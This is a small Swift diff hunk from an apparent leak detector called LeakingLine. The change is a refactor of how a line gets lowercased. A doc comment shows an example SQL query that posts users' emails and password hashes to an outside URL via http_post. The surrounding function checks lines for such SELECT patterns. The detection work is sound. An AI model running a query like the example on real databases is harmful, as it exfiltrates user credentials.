@@ -146,7 +146,7 @@ enum LeakingLine {
 
   /// `SELECT http_post('https://…', group_concat(email || ':' || password_hash)) FROM users`
   private static func carriesColumn(_ line: Range<Int>, in text: ByteView) -> Bool {
-    let said = ByteView(text[line].array.map(ASCII.lowercased))
+    let said = text[line].asciiLowercased
     guard said.contains("select "), !said.contains("uthorization"), !said.contains("bearer") else {
       return false
     }
